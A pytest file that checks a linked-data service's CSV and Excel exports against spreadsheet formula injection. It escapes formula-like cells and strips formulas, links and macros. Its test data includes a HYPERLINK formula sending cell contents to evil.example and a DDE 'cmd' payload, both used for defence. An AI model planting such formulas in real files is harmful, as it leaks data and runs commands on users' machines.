"""Row 16: texts that a spreadsheet takes for a formula, in what people open with one."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from urllib.parse import quote
from xml.etree import ElementTree

import planted
import pytest
from bystander import SHORT, unharmed
from pyoxigraph import Literal, NamedNode, Quad
from serving import Served, serving

WORD = "formuletje"
FORMULAS = [
    f"{start} {WORD}"
    for start in (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        '=HYPERLINK("https://evil.example/?"&A1,"klik")',
        "=cmd|' /C calc'!A0",
        "-5",
        "\uff1d1+1",
    )
]
NUMBERS = ["-5", "+3.2", "-0,75", "-1.5e3", "7"]
PLAIN = [f"a=b {WORD}", f"1-2 {WORD}", f"'=1 {WORD}"]
ACTS = ("=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d")
SCHEMA = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
QUERY = f'SELECT ?label WHERE {{ ?s <{planted.RDFS}label> ?label FILTER(CONTAINS(?label, "{WORD}")) }}'


def _formulas(graph: NamedNode) -> list[Quad]:
    """An action for each text, called so, and a number for each action."""
    found = []
    for place, text in enumerate([*FORMULAS, *PLAIN]):
        thing = NamedNode(f"{planted.BASE}action/p/f{place}")
        number = NUMBERS[place % len(NUMBERS)]
        found += [
            Quad(thing, planted.TYPE, NamedNode(f"{planted.NS}Action"), graph),
            Quad(thing, NamedNode(f"{planted.NS}actionOf"), NamedNode(f"{planted.BASE}plan/p"), graph),
            Quad(thing, NamedNode(f"{planted.RDFS}label"), Literal(text, language="nl"), graph),
            Quad(thing, NamedNode(f"{planted.NS}rekening"), Literal(number), graph),
        ]
    return found


@pytest.fixture(scope="module")
def spread(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A service over a release with formulas for texts."""
    root = tmp_path_factory.mktemp("formulas")
    with serving(planted.make(root, _formulas), root / "log", **SHORT) as found:
        yield found


def _cells(service: Served, path: str) -> list[str]:
    answer = service.client.get(path)
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment")
    return [
        cell
        for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""))
        for cell in row
    ]


@pytest.mark.parametrize("path", ["/list/Action.csv", f"/search.csv?q={WORD}", "/list/Action.csv?lang=en"])
def test_csv_for_spreadsheets(spread: Served, path: str) -> None:
    """No cell begins as a formula does, and nothing else of a text is lost."""
    with unharmed(spread):
        cells = _cells(spread, path)
    assert [cell for cell in cells if cell.startswith(ACTS) and cell not in NUMBERS] == []
    assert {f"'{text}" for text in FORMULAS} <= set(cells)
    assert set(PLAIN) <= set(cells)


def test_numbers_stay_numbers(spread: Served) -> None:
    """A sign before a plain number is no formula: who counts with it gets what the release has."""
    assert set(NUMBERS) <= set(_cells(spread, "/list/Action.csv"))


@pytest.mark.parametrize(
    "path", ["/list/Action.xlsx", f"/search.xlsx?q={WORD}", "/query/titles?plan=plan/p&format=xlsx"]
)
def test_workbooks(spread: Served, path: str) -> None:
    """Read back: texts as they are, typed as texts; no formula, no link, nothing outside the file."""
    with unharmed(spread):
        answer = spread.client.get(path)
    assert answer.status_code == 200
    with zipfile.ZipFile(io.BytesIO(answer.content)) as file:
        parts = {name: file.read(name).decode() for name in file.namelist()}
    sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/sheet")]
    assert sheets
    for sheet in map(ElementTree.fromstring, sheets):
        assert not list(sheet.iter(f"{SCHEMA}f"))
        assert not list(sheet.iter(f"{SCHEMA}hyperlink"))
        assert {cell.get("t", "n") for cell in sheet.iter(f"{SCHEMA}c")} <= {"s", "n"}
    assert not [name for name in parts if re.search("external|vba|macro|connections", name, re.IGNORECASE)]
    assert 'TargetMode="External"' not in "".join(parts.values())
    strings = ElementTree.fromstring(parts["xl/sharedStrings.xml"])
    texts = {"".join(item.itertext()) for item in strings.iter(f"{SCHEMA}si")}
    assert {text for text in FORMULAS if text.isprintable()} <= texts


def test_the_csv_of_a_thing_is_exact(spread: Served) -> None:
    """What it says can be made into the same statements again: as it is, and saved, not shown."""
    with unharmed(spread):
        cells = _cells(spread, "/doc/action/p/f0.csv")
        answer = spread.client.get("/doc/action/p/f0.csv")
    assert FORMULAS[0] in cells
    assert answer.headers["content-disposition"] == 'attachment; filename="action-p-f0.csv"'


def test_answers_to_queries_are_exact(spread: Served) -> None:
    """CSV of SPARQL is for programs (SPARQL 1.1 CSV §3): every character as it is, and saved, not shown."""
    with unharmed(spread):
        cells = _cells(spread, f"/sparql?query={quote(QUERY)}&format=csv")
    assert set(cells) == {"label", *FORMULAS, *PLAIN}
